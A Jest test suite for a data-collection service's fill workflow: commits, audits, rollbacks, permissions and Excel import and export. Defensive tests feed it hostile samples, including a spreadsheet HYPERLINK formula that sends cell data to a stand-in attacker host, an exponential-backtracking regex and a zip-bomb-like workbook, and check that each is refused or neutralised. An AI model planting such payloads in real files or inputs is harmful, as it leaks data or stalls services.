import { randomUUID } from 'node:crypto';
import { PassThrough } from 'node:stream';
import { jest } from '@jest/globals';
import { COLLECTION_MESSAGES, IMPORT_SHEET_MESSAGES, type Allocation, type CollectionTask, type FillHistory, type FillTask, type FillTaskDetail, type FormField } from '@zhengai/contracts';
import ExcelJS from 'exceljs';
import { DataSource } from 'typeorm';
import { SamplingService } from '../../backend/src/modules/warnings/application/sampling.service.js';
import { WarningScanService } from '../../backend/src/modules/warnings/application/warning-scan.service.js';
import type { Client } from './support/files-fixtures.js';
import { client, seed } from './support/session.js';
import { startTestApp, withCsrf, type TestApp } from './support/test-app.js';

// Issue 15, the fill side of data collection: tasks, allocations, fills with save, commit, audit, rollback and
// history, the unique rule across fillers, who reads what, Excel import, and the audited rows read by an SQL source.
jest.setTimeout(120_000);

const SJGL = '/api/herm-sjgl';
const NO_PERMISSION = '用户无权访问该资源';

const field = (key: string, label: string, component: FormField['component'], v: Partial<FormField['validations']> = {}): FormField => ({
  key, label, component, validations: { require: false, unique: false, custom: null, ...v }, maxLength: null, constantTypeId: null, placeholder: null, width: null,
});
const FIELDS = [field('teacher_no', '工号', 'text', { require: true, unique: true }), field('phone', '联系电话', 'phone', { require: true }), field('score', '得分', 'float')];

describe('data collection: the fill side', () => {
  let t: TestApp;
  let db: DataSource;
  let admin: Client;
  let rwfzr: Client; // 陈静, 信息工程学院 d-xxgc
  let bmfzr: Client; // 李红, 教务处 d-jwc
  let bmshr: Client; // 张伟, 教务处 d-jwc

  const as = async (account: string, password = 'Demo2026'): Promise<Client> => {
    const c = client(t);
    expect((await c.login(account, password)).status).toBe(200);
    return c;
  };

  /** A published form (version 1 and its data-centre table), designed through the design side's routes. */
  const makeForm = async (name: string, fields: FormField[] = FIELDS, fixedRows: string[] = [], designer: Client = admin): Promise<{ id: string; code: string }> => {
    const formType = fixedRows.length > 0 ? 'fixed' : 'floating';
    const code = `b_${randomUUID().replace(/-/g, '').slice(0, 12)}`;
    const dir = await designer.post(`${SJGL}/formDirectorys/add`, { name: 'b填报测试' });
    expect(dir.body.meta.success).toBe(true);
    const added = await designer.post(`${SJGL}/forms/add`, { directoryId: dir.body.data.id, name, code, formType });
    expect(added.body.meta.success).toBe(true);
    const id = added.body.data.id as string;
    const designed = await designer.post(`${SJGL}/forms/update`, { id, directoryId: dir.body.data.id, name, code, formType, fields, fixedRows });
    expect(designed.body.meta.success).toBe(true);
    const published = await designer.post(`${SJGL}/forms/publish`, { id });
    expect(published.body.data).toMatchObject({ version: 1, publishState: 'published' });
    return { id, code };
  };

  /** A published task of one form allocated to these departments, audited by 张伟; answers the fills by department. */
  const publishedTask = async (formId: string, departmentIds: string[]): Promise<Record<string, string>> => {
    const task = await admin.post(`${SJGL}/tasks/add`, { name: 'b采集任务', cycle: '2026', deadline: '2099-12-31', formIds: [formId] });
    expect(task.body.meta).toMatchObject({ success: true });
    const taskId = (task.body.data as CollectionTask).id;
    const allocated = await admin.post(`${SJGL}/taskAllocations/add`, { taskId, formId, departmentIds, auditorId: 'u-auditor' });
    expect((allocated.body.data as Allocation[]).map((a) => a.departmentId).sort()).toEqual([...departmentIds].sort());
    const published = await admin.post(`${SJGL}/tasks/publish`, { id: taskId });
    expect(published.body.meta).toMatchObject({ success: true, message: COLLECTION_MESSAGES.published });
    const fills = (await admin.get(`${SJGL}/fillTasks/ofTask?taskId=${taskId}`)).body.data as FillTask[];
    return Object.fromEntries(fills.map((f) => [f.departmentId!, f.id]));
  };

  const detail = async (c: Client, id: string) => (await c.get(`${SJGL}/fillTasks/detail?id=${id}`)).body as { meta: { success: boolean; message: string }; data: FillTaskDetail };
  const row = (teacherNo: string, phone: string, score: string | null = '60', id?: string) => ({ id, values: { teacher_no: teacherNo, phone, score } });

  beforeAll(async () => {
    t = await startTestApp();
    db = await seed(t);
    [admin, rwfzr, bmfzr, bmshr] = await Promise.all([as('admin', 'Admin2026'), as('rwfzr'), as('bmfzr'), as('bmshr')]);
  });
  afterAll(() => t.close());

  it('the whole loop: publish, fill, commit, roll back, fix, commit, audit, into sjzx, sampled by an SQL source that warns', async () => {
    const form = await makeForm('b教师信息');
    const fills = await publishedTask(form.id, ['d-xxgc']);
    const fillId = fills['d-xxgc']!;
    expect((await rwfzr.get(`${SJGL}/fillTasks/mine?pageSize=100`)).body.data.records.map((f: FillTask) => f.id)).toContain(fillId);

    // 陈静 saves a draft and commits it
    const saved = await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: [row('T001', '13800138000', '95')] });
    expect(saved.body.meta).toMatchObject({ success: true, message: COLLECTION_MESSAGES.saved });
    const rowId = saved.body.data[0].id as string;
    const committed = await rwfzr.post(`${SJGL}/fillTasks/commit`, { id: fillId });
    expect(committed.body.meta).toMatchObject({ success: true });
    expect(committed.body.data).toMatchObject({ state: 'unaudited', committerName: '陈静' });

    // 张伟 sends it back with a reason; the filler edits again and commits with the rows at once
    expect((await bmshr.post(`${SJGL}/fillTasks/rollback`, { id: fillId, reason: '' })).status).toBe(400);
    const back = await bmshr.post(`${SJGL}/fillTasks/rollback`, { id: fillId, reason: '得分有误，请核实' });
    expect(back.body.data).toMatchObject({ state: 'rollback', rollbackReason: '得分有误，请核实' });
    expect((await detail(rwfzr, fillId)).data.mayEdit).toBe(true);
    const again = await rwfzr.post(`${SJGL}/fillTasks/commit`, { id: fillId, rows: [row('T001', '13800138000', '60', rowId)] });
    expect(again.body.data).toMatchObject({ state: 'unaudited', rowCount: 1 });

    // 张伟 passes it: the row is in sjzx.<code>
    const audited = await bmshr.post(`${SJGL}/fillTasks/audit`, { id: fillId });
    expect(audited.body.meta).toMatchObject({ success: true, message: COLLECTION_MESSAGES.audited });
    expect(audited.body.data).toMatchObject({ state: 'finished' });
    const centre = await db.query(`SELECT row_id, teacher_no, phone, score::text AS score, cycle, department_name FROM sjzx.${form.code}`);
    expect(centre).toEqual([{ row_id: rowId, teacher_no: 'T001', phone: '13800138000', score: '60', cycle: '2026', department_name: '信息工程学院' }]);

    // a quality point's SQL source reads the table: the audited 60 is sampled and breaks the rule "< 80"
    const tag = randomUUID().slice(0, 8);
    const libraryId = `lib-b-${tag}`;
    const taskId = `task-b-${tag}`;
    const pointId = `${libraryId}-p`;
    await db.query(`INSERT INTO target_library (id, name, cycle_type_id, cycle_value, target_level_id, dimension_id, tree_level, creator_id)
                    VALUES ($1, $2, 'c-year', '2026', 'major', 'dim-zlsc', 3, 'u-publisher')`, [libraryId, `采集测试库${tag}`]);
    await db.query(`INSERT INTO obj_task (id, library_id, rwmc, object_type, object_code, object_name, cycle_value, department_id, owner_id, auditor_id)
                    VALUES ($1, $2, '采集测试任务', 'major', $3, '采集专业', '2026', 'd-xxgc', 'u-owner', 'u-auditor')`, [taskId, libraryId, `major-${tag}`]);
    await db.query(`INSERT INTO quality_point (id, library_id, code, zkdmc, bzz, mbz, zlx, cal_rule, sampling_period, warning_rule, sort_order)
                    VALUES ($1, $2, 'B-1', '教师得分', '100', '100', 'float', '{"direction":"higher","b":0.9,"c":0.8}', 'month', $3, 0)`,
      [pointId, libraryId, { yjlx: 'value', tj: '<', yjz: '80', yjzq: 'month' }]);
    await db.query(`INSERT INTO point_datasource (point_id, sjlx, cjfs, xsfs, config) VALUES ($1, 'float', 'sql', 'table', $2)`,
      [pointId, { sql: `SELECT min(score) FROM ${form.code} WHERE cycle = :zq` }]);
    try {
      const at = new Date(2026, 10, 21, 10);
      await t.app.get(SamplingService).sampleDue(at);
      await t.app.get(WarningScanService).scan(at);
      const [result] = await db.query(`SELECT jgz FROM quality_result WHERE obj_task_id = $1 AND point_id = $2`, [taskId, pointId]);
      expect(Number(result.jgz)).toBe(60);
      const warned = await db.query(`SELECT f.jgz FROM warning_flow f JOIN quality_result r ON r.id = f.result_id WHERE r.obj_task_id = $1`, [taskId]);
      expect(warned.map((w: { jgz: string }) => Number(w.jgz))).toEqual([60]);
    } finally {
      await db.query(`DELETE FROM target_library WHERE id = $1`, [libraryId]);
    }

    // the history: save, commit, rollback (reason), save, commit, audit, with who
    const history = (await rwfzr.get(`${SJGL}/fillTasks/history?id=${fillId}`)).body.data as FillHistory[];
    expect(history.map((h) => [h.action, h.actorName, h.reason]).reverse()).toEqual([
      ['save', '陈静', null], ['commit', '陈静', null], ['rollback', '张伟', '得分有误，请核实'], ['save', '陈静', null], ['commit', '陈静', null], ['audit', '张伟', null],
    ]);
    expect(history[2]).toMatchObject({ action: 'save', changed: 1, changes: [{ rowNo: 1, field: 'score', label: '得分', before: '95', after: '60' }] });
    expect(history.every((h) => /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/.test(h.time))).toBe(true);

    // rolling back an audited fill takes its rows out of the data centre
    await bmshr.post(`${SJGL}/fillTasks/rollback`, { id: fillId, reason: '重新核对' });
    expect(await db.query(`SELECT 1 FROM sjzx.${form.code}`)).toEqual([]);
  });

  it('refuses a commit with a bad phone in row 2, naming the row and the field, and saves nothing', async () => {
    const form = await makeForm('b校验');
    const fillId = (await publishedTask(form.id, ['d-xxgc']))['d-xxgc']!;
    await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: [row('T1', '13800138000')] });
    const res = await rwfzr.post(`${SJGL}/fillTasks/commit`, { id: fillId, rows: [row('T1', '13800138000'), row('T2', '12345')] });
    expect(res.status).toBe(400);
    expect(res.body.meta.message).toBe('第2行「联系电话」：请输入正确的国内手机或座机号码格式！');
    expect(res.body.data).toEqual([{ row: 2, field: 'phone', label: '联系电话', message: '请输入正确的国内手机或座机号码格式！' }]);
    const after = await detail(rwfzr, fillId);
    expect(after.data.fillTask.state).toBe('uncommitted');
    expect(after.data.rows.map((r) => r.values.teacher_no)).toEqual(['T1']);
    // two broken cells: the first named, the count added
    const two = await rwfzr.post(`${SJGL}/fillTasks/commit`, { id: fillId, rows: [row('', '13800138000'), row('T2', 'x')] });
    expect(two.body.meta.message).toBe('第1行「工号」：请输入数据！（共2处错误）');
    // a save checks every rule but require
    expect((await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: [row('T3', '')] })).body.meta.success).toBe(true);
    expect((await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: [row('T3', '110')] })).status).toBe(400);
  });

  it('runs a designer’s exponential pattern in linear time: 陈静 gets the field’s refusal, not a stalled server (issue 31)', async () => {
    // ^(a+)+$ backtracks exponentially on RegExp: "a"×40 + "!" would hold the server for hours. On RE2 it is one pass.
    const letters = field('letters', '字母', 'text', { custom: { pattern: '^(a+)+$', message: '只能填写字母a' } });
    const form = await makeForm('b指数正则', [letters], [], await as('fabu'));
    const fillId = (await publishedTask(form.id, ['d-xxgc']))['d-xxgc']!;
    const bad = await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: [{ values: { letters: `${'a'.repeat(40)}!` } }] });
    expect(bad.status).toBe(400);
    expect(bad.body.meta).toEqual({ success: false, message: '第1行「字母」：只能填写字母a' });
    expect(bad.body.data).toEqual([{ row: 1, field: 'letters', label: '字母', message: '只能填写字母a' }]);
    expect((await detail(rwfzr, fillId)).data.rows).toEqual([]);
    // the commit checks the same way; a value the pattern takes is saved
    expect((await rwfzr.post(`${SJGL}/fillTasks/commit`, { id: fillId, rows: [{ values: { letters: `${'a'.repeat(40)}!` } }] })).status).toBe(400);
    const good = await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: [{ values: { letters: 'a'.repeat(40) } }] });
    expect(good.body.meta).toMatchObject({ success: true, message: COLLECTION_MESSAGES.saved });
    expect((await detail(rwfzr, fillId)).data.rows.map((r) => r.values.letters)).toEqual(['a'.repeat(40)]);
  });

  it('refuses a unique value another filler of the same task holds', async () => {
    const form = await makeForm('b唯一');
    const fills = await publishedTask(form.id, ['d-xxgc', 'd-jwc']);
    expect((await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fills['d-xxgc'], rows: [row('T900', '13800138000')] })).body.meta.success).toBe(true);
    const dup = await bmfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fills['d-jwc'], rows: [row('T901', '13800138000'), row('T900', '13800138001')] });
    expect(dup.status).toBe(400);
    expect(dup.body.meta.message).toBe('第2行「工号」：该值已被填报，不能重复');
    const check = await bmfzr.post(`${SJGL}/datas/uniqueCheck`, { fillTaskId: fills['d-jwc'], field: 'teacher_no', values: ['T900', 'T901'] });
    expect(check.body.data).toEqual({ duplicates: ['T900'] });
    expect((await detail(bmfzr, fills['d-jwc']!)).data.rows).toEqual([]);
  });

  it('keeps fillers to their own fills and editing to open states; only the named auditor or a manager audits', async () => {
    const form = await makeForm('b权限');
    const fills = await publishedTask(form.id, ['d-xxgc', 'd-jwc']);
    const xxgc = fills['d-xxgc']!;
    const jwc = fills['d-jwc']!;
    await rwfzr.post(`${SJGL}/fillTasks/commit`, { id: xxgc, rows: [row('A1', '13800138000')] });
    const edit = await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: xxgc, rows: [row('A1', '13900139000')] });
    expect(edit.status).toBe(409);
    expect(edit.body.meta.message).toBe('填报任务处于「待审核」状态，不能修改');
    expect((await rwfzr.post(`${SJGL}/fillTasks/commit`, { id: xxgc })).status).toBe(409);

    // 陈静 reads nothing of 教务处's fill; 李红 (教务处) nothing of 信息工程学院's
    for (const res of [await rwfzr.get(`${SJGL}/fillTasks/detail?id=${jwc}`), await rwfzr.get(`${SJGL}/datas/query?fillTaskId=${jwc}`), await bmfzr.get(`${SJGL}/fillTasks/history?id=${xxgc}`)]) {
      expect(res.body.meta).toMatchObject({ success: false, message: NO_PERMISSION });
    }
    expect((await rwfzr.get(`${SJGL}/datas/query?taskId=x&pageSize=100`)).body.data.records.every((r: { fillTaskId: string }) => r.fillTaskId !== jwc)).toBe(true);

    // 李红 fills 教务处's form but its auditor is 张伟: she may not pass it; 张伟 and the admin may
    await bmfzr.post(`${SJGL}/fillTasks/commit`, { id: jwc, rows: [row('A2', '13800138002')] });
    const notAuditor = await bmfzr.post(`${SJGL}/fillTasks/audit`, { id: jwc });
    expect(notAuditor.body.meta).toMatchObject({ success: false, message: COLLECTION_MESSAGES.notAuditor });
    expect((await bmshr.post(`${SJGL}/fillTasks/audit`, { id: jwc })).body.data.state).toBe('finished');
    expect((await admin.post(`${SJGL}/fillTasks/audit`, { id: xxgc })).body.data.state).toBe('finished');
    expect((await bmshr.post(`${SJGL}/fillTasks/audit`, { id: jwc })).status).toBe(409);
    // tasks and allocations are the managers'
    expect((await bmshr.get(`${SJGL}/tasks/list`)).body.meta.success).toBe(false);
  });

  it('imports from the template: a bad row refuses the sheet with every bad row named; a good sheet lands with history import', async () => {
    const form = await makeForm('b导入');
    const fillId = (await publishedTask(form.id, ['d-xxgc']))['d-xxgc']!;
    const template = await rwfzr.get(`${SJGL}/datas/template?fillTaskId=${fillId}`).buffer(true).parse((res, cb) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(template.body as ArrayBuffer);
    expect((book.worksheets[0]!.getRow(1).values as unknown[]).slice(1)).toEqual(['工号', '联系电话', '得分']);

    const sheet = async (rows: string[][]): Promise<Buffer> => {
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet('s');
      ws.addRow(['工号', '联系电话', '得分']);
      for (const r of rows) ws.addRow(r);
      return Buffer.from(await wb.xlsx.writeBuffer());
    };
    const upload = (bytes: Buffer, filename = 'rows.xlsx') =>
      rwfzr.agent.post(withCsrf(`${SJGL}/datas/import`, t.config.csrfSecret)).field('fillTaskId', fillId).attach('file', bytes, { filename });

    const bad = await upload(await sheet([['I1', '13800138000', '1'], ['I2', '12345', '2'], ['I3', '13800138003', 'abc']]));
    expect(bad.status).toBe(400);
    expect(bad.body.data).toEqual([
      { row: 3, reason: '「联系电话」：请输入正确的国内手机或座机号码格式！' },
      { row: 4, reason: '「得分」：请输入正确的小数格式！' },
    ]);
    expect((await detail(rwfzr, fillId)).data.rows).toEqual([]);
    expect((await upload(Buffer.from('not a workbook'), 'rows.xlsx')).status).toBe(400);
    expect((await upload(await sheet([['I1', '13800138000', '1']]), 'rows.csv')).body.meta.message).toBe('请上传 .xlsx 格式的 Excel 文件（不超过10MB）');

    const good = await upload(await sheet([['I1', '13800138000', '1'], ['I2', '010-62345678', '2.5']]));
    expect(good.body).toMatchObject({ meta: { success: true }, data: { imported: 2 } });
    expect((await detail(rwfzr, fillId)).data.rows.map((r) => r.values)).toEqual([
      { teacher_no: 'I1', phone: '13800138000', score: '1' },
      { teacher_no: 'I2', phone: '010-62345678', score: '2.5' },
    ]);
    const history = (await rwfzr.get(`${SJGL}/fillTasks/history?id=${fillId}`)).body.data as FillHistory[];
    expect(history[0]).toMatchObject({ action: 'import', actorName: '陈静', added: 2, rowCount: 2 });
  });
  it('refuses a sheet of 200,000 tiny rows with the row limit, read in a thread while /api/health answers (issue 31 item 2)', async () => {
    const form = await makeForm('b大表导入');
    const fillId = (await publishedTask(form.id, ['d-xxgc']))['d-xxgc']!;
    // Highly compressible, as a zip bomb: written with exceljs's streaming writer, the same short row over and over.
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    const book = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: out, useSharedStrings: true, zip: { zlib: { level: 9 } } });
    const ws = book.addWorksheet('s');
    ws.addRow(['工号', '联系电话', '得分']).commit();
    for (let i = 0; i < 200_000; i++) ws.addRow(['I', '13800138000', 1]).commit();
    ws.commit();
    await book.commit();
    const bytes = Buffer.concat(chunks);
    // within the upload's 10 MB and its 100 MB unpacked: only the reader's row limit can refuse it
    expect(bytes.length).toBeLessThan(10 * 1024 * 1024);

    const [imported, health] = await Promise.all([
      rwfzr.agent.post(withCsrf(`${SJGL}/datas/import`, t.config.csrfSecret)).field('fillTaskId', fillId).attach('file', bytes, { filename: 'rows.xlsx' }),
      new Promise((resolve) => setTimeout(resolve, 50)).then(() => t.http.get('/api/health')),
    ]);
    expect(imported.status).toBe(400);
    expect(imported.body.meta.message).toBe(IMPORT_SHEET_MESSAGES.rows);
    expect(IMPORT_SHEET_MESSAGES.rows).toBe('表格行数超过上限（最多50000行）');
    expect(health.status).toBe(200);
    expect((await detail(rwfzr, fillId)).data.rows).toEqual([]);
  });
  it('gives a fixed form its labelled rows at publish, keeps them on save, and refuses other labels', async () => {
    const form = await makeForm('b固定表', [field('count', '人数', 'integer', { require: true })], ['男', '女']);
    const fillId = (await publishedTask(form.id, ['d-xxgc']))['d-xxgc']!;
    const rows = (await detail(rwfzr, fillId)).data.rows;
    expect(rows.map((r) => [r.rowNo, r.label, r.values])).toEqual([[1, '男', {}], [2, '女', {}]]);
    const saved = await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: rows.map((r, i) => ({ id: r.id, label: r.label, values: { count: String(10 + i) } })) });
    expect(saved.body.data.map((r: { id: string; label: string }) => [r.id, r.label])).toEqual(rows.map((r) => [r.id, r.label]));
    const changed = await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: [{ label: '男', values: { count: '1' } }] });
    expect(changed.body.meta.message).toBe(COLLECTION_MESSAGES.fixedRowsChanged);
    // the manager's export across fills: 填报部门, 项目, then the fields
    const exported = await admin.get(`${SJGL}/datas/export?taskId=${(await detail(rwfzr, fillId)).data.fillTask.taskId}&formId=${form.id}`).buffer(true).parse((res, cb) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(exported.body as ArrayBuffer);
    const ws = book.worksheets[0]!;
    expect([1, 2, 3].map((n) => (ws.getRow(n).values as unknown[]).slice(1))).toEqual([['填报部门', '项目', '人数'], ['信息工程学院', '男', '10'], ['信息工程学院', '女', '11']]);
  });

  it('exports fill values and field labels that would start a formula as text behind a quote; a number stays as typed (issue 31 item 14)', async () => {
    const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', '+1+1', '-2+3', '@SUM(1,1)'];
    const form = await makeForm('b公式文本', [field('note', '=备注', 'text'), field('score', '得分', 'float')]);
    const fillId = (await publishedTask(form.id, ['d-xxgc']))['d-xxgc']!;
    const saved = await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: FORMULAS.map((note, i) => ({ values: { note, score: String(-2 - i) } })) });
    expect(saved.body.meta.success).toBe(true);
    const exported = await rwfzr.get(`${SJGL}/datas/export?fillTaskId=${fillId}`).buffer(true).parse((res, cb) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    expect(exported.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(exported.body as ArrayBuffer);
    const ws = book.worksheets[0]!;
    const cells = [1, 2, 3, 4, 5].map((n) => (ws.getRow(n).values as unknown[]).slice(1));
    expect(cells[0]).toEqual(["'=备注", '得分']);
    expect(cells.slice(1).map((r) => r[0])).toEqual(FORMULAS.map((f) => `'${f}`));
    for (const text of cells.slice(1).map((r) => r[0] as string)) expect(text).not.toMatch(/^[=+\-@\t\r]/);
    // a negative number is a number, not a formula: written as typed
    expect(cells.slice(1).map((r) => r[1])).toEqual(['-2', '-3', '-4', '-5']);
  });

  it('commits a 5,000-row floating form in one request (the bulk routes take bodies past the usual item limit)', async () => {
    const form = await makeForm('b五千行');
    const fillId = (await publishedTask(form.id, ['d-xxgc']))['d-xxgc']!;
    const rows = Array.from({ length: 5000 }, (_, i) => row(`N${i}`, `138${String(i).padStart(8, '0')}`, String(i)));
    const committed = await rwfzr.post(`${SJGL}/fillTasks/commit`, { id: fillId, rows });
    expect(committed.body.meta.success).toBe(true);
    expect(committed.body.data).toMatchObject({ state: 'unaudited', rowCount: 5000 });
    const [{ n }] = await db.query(`SELECT count(*)::int AS n FROM dc_row WHERE fill_task_id = $1`, [fillId]);
    expect(n).toBe(5000);
  });

  it('lets only one of two fillers saving the same unique value at once pass (the task-form lock)', async () => {
    const form = await makeForm('b并发');
    const fills = await publishedTask(form.id, ['d-xxgc', 'd-jwc']);
    const [a, b] = await Promise.all([
      rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fills['d-xxgc'], rows: [row('SAME', '13800138000')] }),
      bmfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fills['d-jwc'], rows: [row('SAME', '13800138001')] }),
    ]);
    expect([a.body.meta.success, b.body.meta.success].sort()).toEqual([false, true]);
    const [{ n }] = await db.query(`SELECT count(*)::int AS n FROM dc_row WHERE form_id = $1 AND values->>'teacher_no' = 'SAME'`, [form.id]);
    expect(n).toBe(1);
  });

  it('refuses null, wrong types, control characters and a day not in the calendar naming the field, and stores nothing (issue 30)', async () => {
    const refused = (res: { status: number; body: { meta: { success: boolean; message: string } } }, message: string) =>
      expect([res.status, res.body.meta.success, res.body.meta.message]).toEqual([400, false, message]);
    const count = async (table: string) => (await db.query(`SELECT count(*)::int AS n FROM ${table}`))[0].n as number;
    const form = await makeForm('b非法输入');

    // tasks and allocations
    const tasks = await count('dc_task');
    const task = { name: 'b非法输入任务', cycle: '2026', deadline: '2099-12-31', formIds: [form.id] };
    refused(await admin.post(`${SJGL}/tasks/add`, { ...task, deadline: '2026-02-30' }), '截止日期不是有效的日期');
    refused(await admin.post(`${SJGL}/tasks/add`, { ...task, cycle: 2026 }), '周期必须是文本');
    refused(await admin.post(`${SJGL}/tasks/add`, { ...task, name: '任务\u001b[31m' }), '名称包含非法字符');
    refused(await admin.post(`${SJGL}/tasks/add`, { ...task, formIds: null }), '表单不能为空');
    expect(await count('dc_task')).toBe(tasks);
    const fills = await publishedTask(form.id, ['d-xxgc']);
    const fillId = fills['d-xxgc']!;
    const taskId = (await detail(rwfzr, fillId)).data.fillTask.taskId;
    refused(await admin.post(`${SJGL}/tasks/update`, { ...task, id: null }), '缺少采集任务');
    const allocations = await count('dc_allocation');
    refused(await admin.post(`${SJGL}/taskAllocations/add`, { taskId, formId: form.id, userIds: 'u-depthead', auditorId: 'u-auditor' }), '用户必须是列表');
    refused(await admin.post(`${SJGL}/taskAllocations/add`, { taskId, formId: form.id, userIds: ['u-depthead'], auditorId: null }), '审核人不能为空');
    expect(await count('dc_allocation')).toBe(allocations);

    // rows: the body's shape is the schema's, a cell's value its column's
    await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: [row('K1', '13800138000')] });
    const stored = await db.query(`SELECT id, values FROM dc_row WHERE fill_task_id = $1`, [fillId]);
    refused(await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: null }), '数据行不能为空');
    refused(await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: [{ values: 'x' }] }), '数据行第1项「值」格式不正确');
    refused(await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: [{ values: { teacher_no: { a: 1 } } }] }), '数据行的单元格只能是文本、数字、文本列表或空值');
    refused(await rwfzr.post(`${SJGL}/fillTasks/commit`, { id: fillId, rows: 'x' }), '数据行必须是列表');
    refused(await rwfzr.post(`${SJGL}/datas/uniqueCheck`, { fillTaskId: fillId, field: 'teacher_no', values: [5] }), '值第1项必须是文本');
    expect(await db.query(`SELECT id, values FROM dc_row WHERE fill_task_id = $1`, [fillId])).toEqual(stored);

    // a rollback's reason: required, many lines allowed, no control characters
    expect((await rwfzr.post(`${SJGL}/fillTasks/commit`, { id: fillId })).body.data.state).toBe('unaudited');
    refused(await bmshr.post(`${SJGL}/fillTasks/rollback`, { id: fillId, reason: null }), '原因不能为空');
    refused(await bmshr.post(`${SJGL}/fillTasks/rollback`, { id: fillId, reason: '原因\u0007' }), '原因包含非法字符');
    expect((await detail(rwfzr, fillId)).data.fillTask.state).toBe('unaudited');
    const back = await bmshr.post(`${SJGL}/fillTasks/rollback`, { id: fillId, reason: '第一处\n\t第二处' });
    expect(back.body.data).toMatchObject({ state: 'rollback', rollbackReason: '第一处\n\t第二处' });
    refused(await rwfzr.get(`${SJGL}/fillTasks/mine?pageSize=abc`), '每页条数必须是整数');
    refused(await rwfzr.get(`${SJGL}/datas/query?fillTaskId=${fillId}&finishedOnly=maybe`), '仅看已完成必须是布尔值');
  });

  it('makes the fill of a new allocation on a published task at once, keeps an allocation with data, and syncs the table', async () => {
    const form = await makeForm('b分配');
    const fills = await publishedTask(form.id, ['d-xxgc']);
    const taskId = (await detail(rwfzr, fills['d-xxgc']!)).data.fillTask.taskId;
    const added = (await admin.post(`${SJGL}/taskAllocations/add`, { taskId, formId: form.id, userIds: ['u-depthead'], auditorId: 'u-auditor' })).body.data as Allocation[];
    const personal = added.find((a) => a.userId === 'u-depthead')!;
    expect(personal).toMatchObject({ userName: '李红', fillState: 'uncommitted' });
    expect((await bmfzr.get(`${SJGL}/fillTasks/mine?pageSize=100`)).body.data.records.map((f: FillTask) => f.id)).toContain(personal.fillTaskId);
    // 陈静's allocation holds a committed fill: it stays; 李红's empty one may go
    await rwfzr.post(`${SJGL}/fillTasks/commit`, { id: fills['d-xxgc'], rows: [row('S1', '13800138000', '70')] });
    const xxgc = added.find((a) => a.departmentId === 'd-xxgc')!;
    const kept = await admin.post(`${SJGL}/taskAllocations/delete`, { id: xxgc.id });
    expect(kept.body.meta).toMatchObject({ success: false, message: COLLECTION_MESSAGES.allocationHasData });
    expect((await admin.post(`${SJGL}/taskAllocations/delete`, { id: personal.id })).body.meta.success).toBe(true);
    // sync rewrites the table from the audited fills only
    await db.query(`INSERT INTO sjzx.${form.code} (row_id, fill_task_id, task_id, cycle, row_no) VALUES ('stray', 'x', 'x', '2026', 1)`);
    await admin.post(`${SJGL}/fillTasks/audit`, { id: fills['d-xxgc'] });
    const synced = await admin.post(`${SJGL}/datas/sync`, { formId: form.id });
    expect(synced.body.data).toEqual({ rows: 1, table: `sjzx.${form.code}` });
    expect(await db.query(`SELECT teacher_no FROM sjzx.${form.code}`)).toEqual([{ teacher_no: 'S1' }]);
    expect((await rwfzr.post(`${SJGL}/datas/sync`, { formId: form.id })).body.meta.success).toBe(false);
  });
});
